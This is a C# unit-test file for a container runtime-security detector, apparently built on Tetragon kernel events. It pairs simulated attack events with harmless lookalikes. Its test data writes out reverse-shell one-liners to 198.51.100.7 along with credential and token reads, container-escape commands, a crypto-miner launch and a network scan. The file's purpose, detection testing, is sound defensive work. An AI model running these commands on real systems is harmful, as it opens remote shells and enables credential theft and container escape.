using System.Text.Json;
using System.Text.Json.Nodes;
using Eyrie.Contracts;
using Eyrie.Enricher.Detections;
using Eyrie.Enricher.Tests.Documents;
using Microsoft.Extensions.Options;

namespace Eyrie.Enricher.Tests.Detections;

/// <summary>Each detection that we ship: an event as Tetragon would tell it, with the arguments that the policy reads, and a neighbour that is harmless.</summary>
public sealed class ShippedDetectionsTests
{
    private const string Write = """[{"file_arg":{"path":"PATH","permission":"-rw-r--r--"}},{"int_arg":2}]""";
    private const string Read = """[{"file_arg":{"path":"PATH","permission":"-rw-r--r--"}},{"int_arg":4}]""";
    private const string Connect = """[{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"10.1.2.3","sport":40000,"daddr":"PATH","dport":80}}]""";
    private const string Unix = """[{"sockaddrun_arg":{"family":"AF_UNIX","path":"PATH"}}]""";
    private const string Pod = """{"namespace":"shop","name":"web-1","workload":"web","workload_kind":"Deployment","container":{"id":"containerd://6b742e38ee3a212239e6d48b2954435a407af44b9a354bdf540db22f460ab40e","name":"web","image":{"name":"reg/web:1.2"}}}""";

    private static readonly Dictionary<string, string> Types = new(StringComparer.Ordinal)
    {
        ["file"] = "file_arg",
        ["path"] = "path_arg",
        ["dentry"] = "path_arg",
        ["int"] = "int_arg",
        ["uint32"] = "uint_arg",
        ["uint64"] = "size_arg",
        ["int64"] = "long_arg",
        ["sock"] = "sock_arg",
        ["sockaddr_un"] = "sockaddrun_arg",
        ["linux_binprm"] = "linux_binprm_arg",
        ["string"] = "string_arg",
        ["bpf_attr"] = "bpf_attr_arg",
        ["module"] = "module_arg",
        ["cap_effective"] = "cap_effective_arg",
    };

    /// <summary>The detection (empty: none), policy, function, arguments, command line, whether it is in a pod.</summary>
    public static TheoryData<string, string, string, string, string, bool> Cases => new()
    {
        { "Kernel helper written in a container, writer killed", "kernel-helper-kill", "security_file_permission", With(Write, "/sys/fs/cgroup/rdma/release_agent"), "/bin/sh -c x", true },
        { "Kernel helper written in a container", "kernel-helper-write", "security_file_permission", With(Write, "/proc/sys/kernel/core_pattern"), "/bin/sh -c x", true },
        { "Kernel helper written", "kernel-helper-write", "security_file_permission", With(Write, "/proc/sys/kernel/core_pattern"), "/usr/bin/tee /proc/sys/kernel/core_pattern", false },
        { "Namespaces made in a container", "namespace-escape", "__x64_sys_unshare", """[{"size_arg":"268435456"}]""", "/usr/bin/unshare -U", true },
        { "Way out of a container", "namespace-escape", "__x64_sys_setns", """[{"int_arg":3},{"int_arg":0}]""", "/usr/bin/nsenter -t 1 -m sh", true },
        { "Way out of a container", "namespace-escape", "security_sb_mount", """[{"string_arg":"/dev/sda1"},{"path_arg":{"path":"/mnt"}},{"string_arg":"ext4"},{"size_arg":"0"}]""", "/bin/mount /dev/sda1 /mnt", true },
        { "Container runtime's socket used from a container", "runtime-socket", "security_socket_connect", With(Unix, "/host/var/run/docker.sock"), "/usr/bin/curl --unix-socket /host/var/run/docker.sock x", true },
        { "", "runtime-socket", "security_socket_connect", With(Unix, "/run/postgresql/.s.PGSQL.5432"), "/usr/bin/psql", true }, // what an older kernel does not filter
        { "Kernel module loaded from a container", "kernel-module", "security_kernel_read_file", With(Write, "/tmp/rk.ko"), "/sbin/insmod /tmp/rk.ko", true },
        { "Kernel module removed", "kernel-module", "free_module", """[{"module_arg":{"name":"falco"}}]""", "/sbin/rmmod falco", false },
        { "Kernel module loaded", "kernel-module", "security_kernel_read_file", With(Write, "/lib/modules/6/x.ko"), "/sbin/modprobe x", false },
        { "BPF program loaded from a container", "bpf-load", "bpf_check", """[{"bpf_attr_arg":{"ProgType":"BPF_PROG_TYPE_KPROBE","InsnCnt":20,"ProgName":"x"}}]""", "/x", true },
        { "BPF program loaded", "bpf-load", "bpf_check", """[{"bpf_attr_arg":{"ProgType":"BPF_PROG_TYPE_KPROBE","InsnCnt":20,"ProgName":"x"}}]""", "/usr/sbin/bpftool prog", false },
        { "Process injection", "process-injection", "__x64_sys_ptrace", """[{"long_arg":"16"},{"int_arg":42}]""", "/usr/bin/strace -p 42", true },
        { "Process injection", "process-injection", "security_file_permission", With(Write, "/proc/42/mem"), "/tmp/x", true },
        { "Program run from memory", "fileless-exec", "security_bprm_check", """[{"linux_binprm_arg":{"path":"/memfd:x (deleted)","permission":"-rwxrwxrwx"}}]""", "/usr/bin/python3 x.py", true },
        { "Preload list or static pod written", "persistence", "security_file_permission", With(Write, "/etc/kubernetes/manifests/x.yaml"), "/bin/cp x", true },
        { "SSH keys written", "persistence", "security_file_permission", With(Write, "/home/a/.ssh/authorized_keys"), "/usr/bin/tee -a", false },
        { "Persistence written", "persistence", "security_file_permission", With(Write, "/etc/cron.d/x"), "/bin/sh -c x", true },
        { "Web root written", "guide-web-root-write", "security_file_permission", With(Write, "/var/www/html/x.sh"), "/bin/sh -c x", true },
        { "Accounts changed", "account-file-write", "security_file_permission", With(Write, "/etc/passwd"), "/usr/sbin/useradd x", false },
        { "Accounts changed", "account-file-write", "security_path_truncate", """[{"path_arg":{"path":"/etc/shadow"}}]""", "/usr/bin/truncate -s0 /etc/shadow", false },
        { "Program written in a running container", "binary-write", "security_file_permission", With(Write, "/usr/bin/x"), "/usr/bin/curl -o /usr/bin/x", true },
        { "Program of the system written", "binary-write", "security_file_permission", With(Write, "/usr/bin/x"), "/usr/bin/cp x /usr/bin/x", false },
        { "Credentials read", "sensitive-file-read", "security_file_permission", With(Read, "/etc/shadow"), "/bin/cat /etc/shadow", true },
        { "Credentials read", "sensitive-file-read", "security_mmap_file", """[{"file_arg":{"path":"/etc/shadow"}},{"uint_arg":1}]""", "/tmp/x", true },
        { "Service account token read by a shell or tool", "service-account-token", "security_file_permission", With(Read, "/run/secrets/kubernetes.io/serviceaccount/token"), "/bin/cat token", true },
        { "", "service-account-token", "security_file_permission", With(Read, "/run/secrets/kubernetes.io/serviceaccount/token"), "/coredns -conf x", true },
        { "", "metadata-service", "tcp_connect", With(Connect, "169.254.169.254"), "/usr/bin/amazon-ssm-agent", false },
        { "Metadata service asked from a pod", "metadata-service", "tcp_connect", With(Connect, "169.254.169.254"), "/usr/bin/curl 169.254.169.254", true },
        { "Network tool connected to a public address", "unexpected-egress", "tcp_connect", With(Connect, "198.51.100.7"), "/usr/bin/nc 198.51.100.7 80", true },
        { "Tool connected to a public address", "unexpected-egress", "tcp_connect", With(Connect, "198.51.100.7"), "/usr/bin/wget x", true },
        { "Raw socket opened", "raw-socket", "security_socket_create", """[{"int_arg":17},{"int_arg":3},{"int_arg":768},{"int_arg":0}]""", "/usr/bin/tcpdump -i eth0", false },
        { "Log or history deleted", "log-deletion", "security_inode_unlink", """[{"path_arg":{"path":"/auth.log"}}]""", "/bin/rm /var/log/auth.log", false },
        { "User namespace created without privileges", "privilege-change", "create_user_ns", "[]", "/tmp/exploit -x", true },
        { "Privileges taken in a pod", "privilege-change", "__sys_setuid", """[{"int_arg":0}]""", "/bin/su -", true },
        { "Privileges taken in a pod", "privilege-change", "security_capset", """[{"cap_effective_arg":"CAP_SYS_ADMIN"}]""", "/tmp/x", true },
        { "", "privilege-change", "__sys_setuid", """[{"int_arg":0}]""", "/usr/bin/sudo id", false },

        { "Program run from shared memory", "", "", "", "/dev/shm/x -a", true },
        { "", "", "", "", "/usr/bin/ls /dev/shm/x", true },
        { "Shell connected to the network", "", "", "", "/bin/bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", true },
        { "Shell connected to the network", "", "", "", "/usr/bin/nc -e /bin/sh 198.51.100.7 4444", true },
        { "Shell connected to the network", "", "", "", "/usr/bin/nc 198.51.100.7 4444 -e sh", true },
        { "Shell connected to the network", "", "", "", "/usr/bin/ncat 198.51.100.7 4444 --sh-exec id", true },
        { "Shell connected to the network", "", "", "", "/bin/busybox nc 198.51.100.7 4444 -e /bin/sh", true },
        { "Shell connected to the network", "", "", "", "/usr/bin/socat TCP:198.51.100.7:4444 EXEC:/bin/sh", true },
        { "", "", "", "", "/bin/bash -c rsync -a -e /usr/bin/ssh a b", true },
        { "", "", "", "", "/bin/sh -c once per -e /usr/bin/env", true },
        { "", "", "", "", "/usr/bin/nc -z db 5432", true },
        { "Namespace tool run in a pod", "", "", "", "/usr/bin/nsenter -t 1 -m sh", true },
        { "", "", "", "", "/usr/bin/nsenter -t 1 -m sh", false },
        { "Crypto miner run", "", "", "", "/tmp/xmrig -c x", true },
        { "", "", "", "", "/usr/bin/less xmrig.txt", true },
        { "Mining pool on a command line", "", "", "", "/tmp/kworker -o stratum+tcp://pool:3333", false },
        { "", "", "", "", "/usr/bin/curl https://pool.example/strata", true },
        { "Kernel module tool run in a pod", "", "", "", "/sbin/insmod x.ko", true },
        { "", "", "", "", "/sbin/insmod x.ko", false },
        { "Cluster tool run in a pod", "", "", "", "/usr/local/bin/kubectl get secrets", true },
        { "", "", "", "", "/usr/local/bin/kubectl get secrets", false },
        { "Network scanner run in a pod", "", "", "", "/usr/bin/nmap -sS 10.0.0.0/8", true },
        { "", "", "", "", "/usr/bin/man nmap", true },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public void Finds_what_it_is_for_and_not_its_harmless_neighbour(string detection, string policy, string function, string arguments, string line, bool inPod)
    {
        var observation = SampleDocuments.Map(SampleDocuments.Event(Event(policy, function, arguments, line, inPod), SensorFormat.TetragonProtobuf));

        var verdict = new Detector(Options.Create(new EnricherOptions())).Judge(observation);

        Assert.Equal(detection, verdict.Severity is null ? "" : verdict.Rule!.Name);
        if (verdict.Severity is not null)
        {
            var told = verdict.Tell(verdict.Name(observation), new() { Process = observation.Process, Correlation = new(CorrelationMethod.Sensor, Confidence.High) });
            Assert.DoesNotContain("?", told.Message, StringComparison.Ordinal); // each placeholder has a value
        }
    }

    [Fact]
    public void Each_that_is_an_alert_is_here() => Assert.Empty(
        DefaultDetections.Rules.Where(rule => rule.Severity is not null).Select(rule => rule.Name!).Except(Cases.Select(one => one.Data.Item1)));

    public static TheoryData<string, string, string> Hooked =>
        [.. Cases.Select(one => one.Data).Where(one => one.Item2.Length > 0).Select(one => (one.Item2, one.Item3, one.Item4)).Distinct()];

    [Theory]
    [MemberData(nameof(Hooked))]
    public void Its_arguments_are_those_that_the_policy_reads(string policy, string function, string arguments)
    {
        var types = ShippedPoliciesTests.Arguments(policy, function.Replace("__x64_sys_", "sys_", StringComparison.Ordinal));

        Assert.Equal(
            types.Where(type => type is not "nop").Select(type => Types[type]),
            JsonNode.Parse(arguments)!.AsArray().Select(argument => argument!.AsObject().First().Key));
    }

    private static string With(string arguments, string path) => arguments.Replace("PATH", path, StringComparison.Ordinal);

    private static string Event(string policy, string function, string arguments, string line, bool inPod)
    {
        var space = line.IndexOf(' ', StringComparison.Ordinal);
        var (binary, rest) = space < 0 ? (line, "") : (line[..space], line[(space + 1)..]);
        var pod = inPod ? $",\"pod\":{Pod},\"docker\":\"6b742e38ee3a212239e6d48b2954435\"" : "";
        var process = $$"""{"exec_id":"bjoxOjc=","pid":7,"uid":1000,"cwd":"/","binary":"{{binary}}","arguments":{{JsonSerializer.Serialize(rest)}},"flags":"execve clone","start_time":"2026-11-23T07:00:00Z"{{pod}}}""";
        var parent = """{"exec_id":"bjoxOjY=","pid":6,"uid":0,"cwd":"/","binary":"/bin/init","flags":"execve clone","start_time":"2026-11-23T06:00:00Z"}""";
        return policy.Length == 0
            ? $$"""{"process_exec":{"process":{{process}},"parent":{{parent}}},"node_name":"n","time":"2026-11-23T07:00:00Z"}"""
            : $$"""{"process_kprobe":{"process":{{process}},"parent":{{parent}},"function_name":"{{function}}","args":{{arguments}},"action":"{{(policy.EndsWith("kill", StringComparison.Ordinal) ? "KPROBE_ACTION_SIGKILL" : "KPROBE_ACTION_POST")}}","policy_name":"eyrie-{{policy}}"},"node_name":"n","time":"2026-11-23T07:00:00Z"}""";
    }
}
